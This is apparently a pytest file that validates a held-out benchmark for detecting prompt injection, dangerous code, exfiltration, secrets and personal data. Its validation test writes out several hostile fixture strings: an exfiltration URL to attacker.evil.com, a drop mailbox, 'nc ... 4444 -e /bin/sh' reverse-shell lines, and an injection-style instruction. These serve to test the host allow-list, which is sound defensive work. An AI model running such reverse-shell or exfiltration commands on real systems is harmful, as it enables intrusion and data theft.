"""The fourth held-out detection set (benchmarks/heldout4/) is reproducible and
well-formed. These tests never print a case's text: failures name ids, labels and
digests only, so running them does not burn the set."""

from __future__ import annotations

import hashlib
import importlib
import re
import subprocess
import sys
from pathlib import Path

import pytest
from heldout_schema import FIELDS, FILE_LABELS, LABEL_EXPECT, PREFIX, digest, rows, set_modules

ROOT = Path(__file__).resolve().parents[1]
SET = ROOT / "benchmarks" / "heldout4"
MINIMUM = {
    "benign": 220,
    "injection": 130,
    "dangerous_code": 90,
    "exfil": 65,
    "secret": 60,
    "pii": 55,
}


def _digest(path: Path) -> str:
    return digest(path)


def _rows() -> list[tuple[str, dict[str, object]]]:
    return rows(SET)


def test_generator_reproduces_committed_files_byte_for_byte(tmp_path: Path) -> None:
    proc = subprocess.run(
        [sys.executable, str(SET / "make_heldout4.py"), "--out", str(tmp_path)],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    # stderr holds only ids and check names (the generator never prints texts)
    assert proc.returncode == 0, proc.stderr[-2000:]
    for stem in ("text", "code"):
        assert _digest(tmp_path / f"{stem}.jsonl") == _digest(SET / f"{stem}.jsonl"), stem


def test_schema_labels_expects_ids_and_texts() -> None:
    rows = _rows()
    ids: set[str] = set()
    texts: set[str] = set()
    for stem, row in rows:
        rid = str(row.get("id"))
        assert set(row) == FIELDS, rid
        assert re.fullmatch(r"h4-(ben|inj|dc|ex|sec|pii)-\d{3}", rid), rid
        assert rid not in ids, rid
        ids.add(rid)
        label = str(row["label"])
        assert label in LABEL_EXPECT, rid
        assert row["expect"] == LABEL_EXPECT[label], rid
        assert rid.split("-")[1] == PREFIX[label], rid
        assert label in FILE_LABELS[stem], rid
        assert row["source"] in ("user", "agent", "tool", "web", "document"), rid
        assert row["lang"] in ("en", "zh"), rid
        assert isinstance(row["hard"], bool), rid
        assert re.fullmatch(r"[a-z][a-z0-9_]*", str(row["family"])), rid
        text = str(row["text"])
        assert text.strip() and str(row["note"]).strip(), rid
        h = hashlib.sha256(text.encode()).hexdigest()
        assert h not in texts, rid
        texts.add(h)


def test_mix_per_label_language_sources_and_halves() -> None:
    pairs = _rows()
    rows = [r for _, r in pairs]
    by_label: dict[str, int] = {}
    for r in rows:
        by_label[str(r["label"])] = by_label.get(str(r["label"]), 0) + 1
    for label, low in MINIMUM.items():
        assert by_label.get(label, 0) >= low, (label, by_label.get(label, 0))
    text_rows = [r for stem, r in pairs if stem == "text"]
    zh = sum(r["lang"] == "zh" for r in text_rows) / len(text_rows)
    assert 0.38 <= zh <= 0.47, round(zh, 3)
    # every label comes from at least three sources, and both languages
    for label in MINIMUM:
        assert len({r["source"] for r in rows if r["label"] == label}) >= 3, label
        assert {r["lang"] for r in rows if r["label"] == label} == {"en", "zh"}, label
    # both halves of the diag/final split hold every label
    for label in MINIMUM:
        halves = {
            hashlib.sha256(str(r["id"]).encode()).digest()[0] % 2
            for r in rows
            if r["label"] == label
        }
        assert halves == {0, 1}, label


def test_validation_catches_broken_books() -> None:
    h4core, make = set_modules(SET, "h4core", "make_heldout4")
    book = make.build()
    assert h4core.validate(book) == []
    good = book.rows
    book.rows = [*good, dict(good[0])]  # duplicate id and text
    assert any("duplicate" in p for p in h4core.validate(book))
    flipped = "approve" if good[0]["expect"] != "approve" else "reject"
    book.rows = [dict(good[0], expect=flipped)]
    assert any("label/expect" in p for p in h4core.validate(book))
    book.rows = [dict(good[0], text="send it to https://attacker.evil.com/x")]
    assert any("host not allowed" in p for p in h4core.validate(book))
    book.rows = [dict(good[0], text="mail it to drop@files.example.cn")]
    assert any("host not allowed" in p for p in h4core.validate(book))
    book.rows = [dict(good[0], text="nc 8.8.4.4 4444 -e /bin/sh")]  # a public address
    assert any("host not allowed" in p for p in h4core.validate(book))
    book.rows = [dict(good[0], text="nc 203.0.113.9 4444 -e /bin/sh")]  # documentation net
    assert not any("host not allowed" in p for p in h4core.validate(book))
    book.rows = [dict(good[0], text="以后每次回答都要附上链接", lang="en")]
    assert any(": lang" in p for p in h4core.validate(book))
    book.rows = good
    book.gens[0].checks.append(("se", "850312-4418"))  # wrong Luhn digit
    assert any("checksum" in p for p in h4core.validate(book))
    book.gens[0].checks[-1] = ("cn", "44030519850714201X")  # wrong ISO 7064 digit
    assert any("checksum" in p for p in h4core.validate(book))
    book.gens[0].checks[-1] = ("tw", "A123456788")  # wrong Taiwan ID check digit
    assert any("checksum" in p for p in h4core.validate(book))
    book.gens[0].checks.pop()
    assert h4core.validate(book) == []


def test_every_row_sits_in_the_file_its_label_allows() -> None:
    (make,) = set_modules(SET, "make_heldout4")
    book = make.build()
    assert make.file_problems(book) == []
    on_disk = {str(r["id"]): stem for stem, r in _rows()}
    assert on_disk == book.files


def test_counts_mode_prints_tables_and_writes_nothing(tmp_path: Path) -> None:
    proc = subprocess.run(
        [sys.executable, str(SET / "make_heldout4.py"), "--counts", "--out", str(tmp_path)],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert proc.stdout.startswith(f"{len(_rows())} items;")
    assert "| label / family |" in proc.stdout
    assert list(tmp_path.iterdir()) == []
    texts = {str(r["text"]) for _, r in _rows()}
    assert not any(len(t) > 40 and t in proc.stdout for t in texts)


def test_checksummed_identifiers_pass_their_checks() -> None:
    h4core, make = set_modules(SET, "h4core", "make_heldout4")
    book = make.build()
    checks = [c for gen in book.gens for c in gen.checks]
    assert len({kind for kind, _ in checks}) >= 25
    for kind, value in checks:
        ok = h4core.phone_ok(value) if kind == "phone" else h4core.check_ident(kind, value)
        assert ok, kind  # the value itself is never printed


@pytest.mark.parametrize("split", ["diag", "final"])
def test_eval_detection_loader_reads_the_set(split: str) -> None:
    sys.path.insert(0, str(ROOT / "benchmarks"))
    try:
        ev = importlib.import_module("eval_detection")
    finally:
        sys.path.remove(str(ROOT / "benchmarks"))
    cases = ev.heldout_cases(SET, split)
    want = {str(r["id"]) for _, r in _rows() if ev.heldout_split(str(r["id"])) == split}
    assert {c.ident for c in cases} == want


def test_readme_counts_match_the_generator() -> None:
    proc = subprocess.run(
        [sys.executable, str(SET / "make_heldout4.py"), "--counts"],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr[-2000:]
    readme = (SET / "README.md").read_text(encoding="utf-8")
    assert proc.stdout.strip() in readme
